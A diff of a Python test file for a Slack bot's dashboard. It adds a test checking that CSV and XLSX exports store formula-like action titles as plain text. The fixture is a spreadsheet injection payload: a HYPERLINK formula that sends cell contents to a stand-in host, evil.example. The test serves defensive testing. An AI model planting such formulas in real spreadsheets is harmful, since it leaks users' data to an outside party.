@@ -10,6 +10,7 @@ from datetime import UTC, datetime
 from pathlib import Path
 
 import httpx
+from openpyxl import load_workbook
 from sqlalchemy import func, select
 
 from bot.dashboard.links import dashboard_links
@@ -21,17 +22,18 @@ from commands.context import CommandContext
 from commands.dispatch import answer
 from commands.replies import Link, Reply
 from tests.dashboard.live import LiveDashboard
-from tests.helpers import person
+from tests.helpers import ADMIN, person
 from tests.test_cli import ESR_OVERDUE
 
 NOW = datetime(2021, 1, 15, 9, 0, tzinfo=UTC)
 
 
-def chat(live: LiveDashboard, text: str, email: str | None = None) -> Reply:
+def chat(live: LiveDashboard, text: str, email: str = ADMIN) -> Reply:
+    """As asked in Slack by a person in the directory (strangers are answered nothing but one sentence)."""
     links = dashboard_links(live.settings)
     assert links is not None
     with live.database.unit_of_work() as session:
-        actor = person(session, email) if email else None
+        actor = person(session, email)
         ctx = CommandContext(session=session, actor=actor, clock=live.clock, source="slack",
                              download_link=links.download)  # fmt: skip
         return answer(text, ctx)
@@ -122,3 +124,21 @@ def test_the_wales_view_counts_actions_nobody_holds_yet(live: LiveDashboard, tmp
         overdue = rows_of(browser.get("/dashboard/org/wales/export/actions.csv?only=overdue"))
         assert len(overdue) == parts
         assert browser.get("/dashboard/org/wales/export/actions.csv?only=everything").status_code == 400
+
+
+def test_dashboard_downloads_write_formula_like_titles_as_text(live: LiveDashboard, tmp_path: Path) -> None:
+    evil = '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")'
+    plan = tmp_path / "evil.csv"
+    with plan.open("w", newline="", encoding="utf-8") as out:
+        csv.writer(out).writerows([["Ref", "Action", "Lead", "Timeline"], ["1", evil, "-", "June 2020"]])
+    with live.database.unit_of_work() as session:
+        import_plan(session=session, plan_file=read_plan_file(plan, key="evil", name="Evil", overrides={}), now=NOW)
+    with httpx.Client(base_url=live.url) as browser:
+        browser.get(live.link("wales"), follow_redirects=True)
+        rows = rows_of(browser.get("/dashboard/org/wales/export/actions.csv?plan=evil"))
+        assert [r["Action"] for r in rows] == [f"'{evil}"]
+        workbook = browser.get("/dashboard/org/wales/export/actions.xlsx?plan=evil")
+    assert workbook.status_code == 200
+    sheet = load_workbook(io.BytesIO(workbook.content)).worksheets[0]
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert evil in [c.value for c in cells] and not any(c.data_type == "f" for c in cells)
